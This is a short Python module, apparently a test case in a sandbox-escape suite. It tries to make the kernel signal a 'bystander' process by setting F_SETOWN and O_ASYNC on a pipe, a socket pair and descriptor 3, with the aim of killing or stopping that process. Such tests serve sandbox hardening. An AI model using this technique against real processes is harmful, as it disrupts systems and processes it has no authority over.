"""Has the kernel signal another process about input, through F_SETOWN.

kind: killing, stopping, renicing engine or rival
sandbox: played
process: played, bystander
"""

import fcntl
import os
import socket
import time

from attack import Attack, attempt


def own(descriptor, pid):
    fcntl.fcntl(descriptor, fcntl.F_SETOWN, pid)
    fcntl.fcntl(descriptor, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)


def by_pipe(pid):
    read, write = os.pipe()
    own(read, pid)
    os.write(write, b"x")


def by_socket(pid):
    ours, theirs = socket.socketpair()
    own(ours.fileno(), pid)
    theirs.send(b"x")
    time.sleep(0.05)


class Own(Attack):
    def attack(self, view):
        pid = self.targets["bystander"]["pid"]
        attempt(lambda: own(3, pid), lambda: by_pipe(pid), lambda: by_socket(pid))
        attempt(lambda: fcntl.fcntl(3, fcntl.F_SETFL, 0))
